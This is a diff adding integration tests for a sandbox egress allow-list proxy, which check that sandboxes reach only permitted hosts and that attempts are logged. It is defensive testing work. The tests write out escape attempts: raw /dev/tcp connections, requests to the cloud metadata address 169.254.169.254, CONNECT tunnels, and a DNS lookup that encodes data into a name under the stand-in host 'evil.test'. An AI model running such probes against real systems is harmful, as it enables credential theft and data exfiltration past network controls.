@@ -1,0 +1,232 @@
+import { execFileSync, spawn } from "node:child_process"
+import { once } from "node:events"
+import { createServer } from "node:http"
+import { Sandboxes, type SandboxSession } from "@cordon/core"
+import * as docker from "@cordon/driver-docker"
+import { assert, describe } from "@effect/vitest"
+import { Effect, Layer, Schedule } from "effect"
+import { engine, freshSession, image, needing } from "./support.ts"
+
+// A host behind the engine's, in a network namespace of its own, as the world that is allowed.
+const world = "10.251.9.2"
+const hosts = {
+  "good.test": world,
+  "files.good.test": world,
+  "evil.test": world,
+  // A name of the attacker's that is on the list and leads where it must not.
+  "rebind.test": "192.168.77.1",
+  "metadata.test": "169.254.169.254",
+}
+
+/** Serves HTTP on port 80 of the world; says which host it was asked for. */
+const serving = Effect.acquireRelease(
+  Effect.promise(async () => {
+    const name = `cordon-world-${process.pid}`
+    const wire = `ce${process.pid}`.slice(0, 12)
+    const ip = (line: string) => execFileSync("ip", line.split(" "))
+    ip(`netns add ${name}`)
+    ip(`link add ${wire} type veth peer name eth0 netns ${name}`)
+    ip(`addr add 10.251.9.1/30 dev ${wire}`)
+    ip(`link set ${wire} up`)
+    ip(`-n ${name} addr add ${world}/30 dev eth0`)
+    ip(`-n ${name} link set eth0 up`)
+    ip(`-n ${name} route add default via 10.251.9.1`)
+    const script = `
+      const { createServer } = require("node:http")
+      createServer((request, response) => response.end("served " + request.headers.host)).listen(80, () => console.log("up"))`
+    const child = spawn("ip", ["netns", "exec", name, process.execPath, "-e", script], {
+      stdio: ["ignore", "pipe", "inherit"],
+    })
+    await once(child.stdout, "data")
+    return { name, child }
+  }),
+  ({ name, child }) =>
+    Effect.promise(async () => {
+      child.kill("SIGKILL")
+      await once(child, "exit")
+      execFileSync("ip", ["netns", "del", name])
+    }),
+)
+
+const withProxies = <A, E>(proxy: string, f: (session: SandboxSession) => Effect.Effect<A, E>) =>
+  Effect.gen(function* () {
+    yield* serving
+    const sandboxes = yield* Sandboxes
+    return yield* f(yield* sandboxes.session(freshSession()))
+  }).pipe(
+    Effect.provide(
+      Sandboxes.layer({ image }).pipe(
+        Layer.provide(docker.layer({ egress: { image: proxy, hosts } })),
+      ),
+    ),
+    Effect.scoped,
+  )
+
+// What an agent's program does: speaks HTTP through the proxy that its environment names.
+const fetching = (url: string, method = "GET") => {
+  const { host } = new URL(url)
+  return `exec 3<>"/dev/tcp/$(echo "$HTTP_PROXY" | sed 's,http://,,; s,:,/,')" && printf '${method} ${method === "GET" ? url : host} HTTP/1.0\\r\\nHost: ${host}\\r\\n\\r\\n' >&3 && timeout 20 cat <&3`
+}
+const bash = (script: string) => ["bash", "-c", script] as const
+
+describe("an allow-list on a real engine", () => {
+  needing(
+    "CORDON_TEST_PROXY_IMAGE",
+    "lets a sandbox go where it says, nowhere else, and tells of each attempt",
+    (proxy) =>
+      withProxies(proxy, (session) =>
+        Effect.gen(function* () {
+          const sandbox = yield* session.create({
+            name: "box",
+            egress: {
+              allow: ["good.test", "*.good.test", "rebind.test", "metadata.test"],
+              allowAddresses: ["10.251.9.0/30"],
+            },
+          })
+          const answer = (script: string) =>
+            Effect.map(sandbox.exec(bash(script)), ({ stdout }) => stdout)
+          assert.match(yield* answer(fetching("http://good.test/")), /served good\.test$/)
+          assert.match(
+            yield* answer(fetching("http://files.good.test/")),
+            /served files\.good\.test$/,
+          )
+          // It leads to the same host: only the name tells.
+          for (const url of [
+            "http://evil.test/",
+            "http://good.test.evil.test/",
+            `http://${world}/`,
+            "http://rebind.test/",
+            "http://metadata.test/latest/meta-data/",
+            "http://169.254.169.254/latest/meta-data/",
+            "http://good.test:8080/",
+          ]) {
+            assert.match(yield* answer(fetching(url)), /^HTTP\/1\.1 403/, url)
+          }
+          assert.match(
+            yield* answer(fetching("https://evil.test:443/", "CONNECT")),
+            /^HTTP\/1\.1 403/,
+          )
+          // A tunnel to port 80 would carry anything at all.
+          assert.match(
+            yield* answer(fetching("https://good.test:80/", "CONNECT")),
+            /^HTTP\/1\.1 403/,
+          )
+          const attempts = yield* sandbox.egressAttempts
+          const told = attempts.map(({ host, allowed }) => `${host} ${allowed}`)
+          assert.includeMembers(told, [
+            "good.test true",
+            "evil.test false",
+            `${world} false`,
+            "169.254.169.254 false",
+          ])
+        }),
+      ),
+    120_000,
+  )
+
+  needing(
+    "CORDON_TEST_PROXY_IMAGE",
+    "can't be got round: no address, no other protocol, no name lookup, no proxy unset",
+    (proxy) =>
+      withProxies(proxy, (session) =>
+        Effect.gen(function* () {
+          const egress = { allow: ["good.test"], allowAddresses: ["10.251.9.0/30"] }
+          const sandbox = yield* session.create({ egress })
+          const open = yield* session.create()
+          const listener = yield* Effect.acquireRelease(
+            Effect.promise(async () => {
+              const server = createServer((_, response) => response.end("host"))
+              server.listen(0, "0.0.0.0")
+              await once(server, "listening")
+              return server
+            }),
+            (server) => Effect.sync(() => server.close()),
+          )
+          const address = listener.address()
+          const port = typeof address === "object" ? (address?.port ?? 0) : 0
+          // The proxy has the last but one address of a /29, the gateway the first.
+          const proxied = (yield* sandbox.run('printf %s "$HTTP_PROXY"')).stdout
+          const gateway = proxied.replace(
+            /^http:\/\/(.*)\.(\d+):3128$/,
+            (_, net: string, place: string) => `${net}.${Number(place) - 5}`,
+          )
+          assert.match(gateway, /^10\.\d+\.\d+\.\d+$/)
+          const reached = (box: typeof sandbox, script: string) =>
+            Effect.map(
+              box.exec(bash(`(${script}) >/dev/null 2>&1 && echo reached`)),
+              ({ stdout }) => stdout.trim(),
+            )
+          // The world is there: who may go anywhere gets to it.
+          assert.strictEqual(
+            yield* reached(open, `timeout 5 bash -c 'echo > /dev/tcp/${world}/80'`),
+            "reached",
+          )
+          for (const way of [
+            `timeout 5 bash -c 'echo > /dev/tcp/${world}/80'`,
+            `timeout 5 bash -c 'echo > /dev/tcp/${world}/22'`,
+            "timeout 5 bash -c 'echo > /dev/tcp/169.254.169.254/80'",
+            // The host itself, by its address on the sandbox's network.
+            `timeout 5 bash -c 'echo > /dev/tcp/${gateway}/${port}'`,
+            // Names are data: nobody may carry them out.
+            "timeout 5 getent hosts c2VjcmV0.evil.test",
+            // UDP is sent into the void; an answer would have to come back.
+            `timeout 5 bash -c "exec 3<>/dev/udp/${world}/53; echo x >&3; read -t 3 -u 3 line"`,
+          ]) {
+            assert.strictEqual(yield* reached(sandbox, way), "", way)
+          }
+          // Not by the proxy either, as somebody else's: it serves its own network only.
+          const { NetworkSettings } = yield* Effect.promise(() =>
+            engine.getContainer(sandbox.info.instanceId).inspect(),
+          )
+          const [network = ""] = Object.keys(NetworkSettings.Networks)
+          const outside = yield* Effect.promise(async () => {
+            const found = await engine.getContainer(`${network}.egress`).inspect()
+            return found.NetworkSettings.Networks["bridge"]?.IPAddress
+          })
+          assert.match(outside ?? "", /^\d/)
+          assert.strictEqual(
+            yield* reached(open, `timeout 5 bash -c 'echo > /dev/tcp/${outside}/3128'`),
+            "",
+          )
+        }).pipe(Effect.scoped),
+      ),
+    180_000,
+  )
+
+  needing(
+    "CORDON_TEST_PROXY_IMAGE",
+    "goes with its sandbox, wherever a creation is interrupted",
+    (proxy) =>
+      withProxies(proxy, (session) =>
+        Effect.gen(function* () {
+          const proxies = Effect.promise(async () => {
+            const containers = await engine.listContainers({
+              all: true,
+              filters: { name: ["\\.egress$"] },
+            })
+            return containers.length
+          })
+          const before = yield* proxies
+          const egress = { allow: ["good.test"] }
+          const sandbox = yield* session.create({ egress })
+          assert.strictEqual(yield* proxies, before + 1)
+          yield* sandbox.stop
+          yield* sandbox.start
+          assert.match((yield* sandbox.exec(bash(fetching("http://evil.test/")))).stdout, /403/)
+          yield* sandbox.remove
+          for (let delay = 0; delay <= 1500; delay += 300) {
+            yield* session.create({ egress }).pipe(
+              Effect.flatMap((made) => made.remove),
+              Effect.timeoutOption(delay),
+            )
+          }
+          assert.deepStrictEqual(yield* session.list, [])
+          // Networks go in the background, their proxies with them.
+          yield* Effect.gen(function* () {
+            if ((yield* proxies) > before) return yield* Effect.fail("proxies are left")
+          }).pipe(Effect.retry(Schedule.max([Schedule.spaced("100 millis"), Schedule.recurs(100)])))
+        }),
+      ),
+    180_000,
+  )
+})
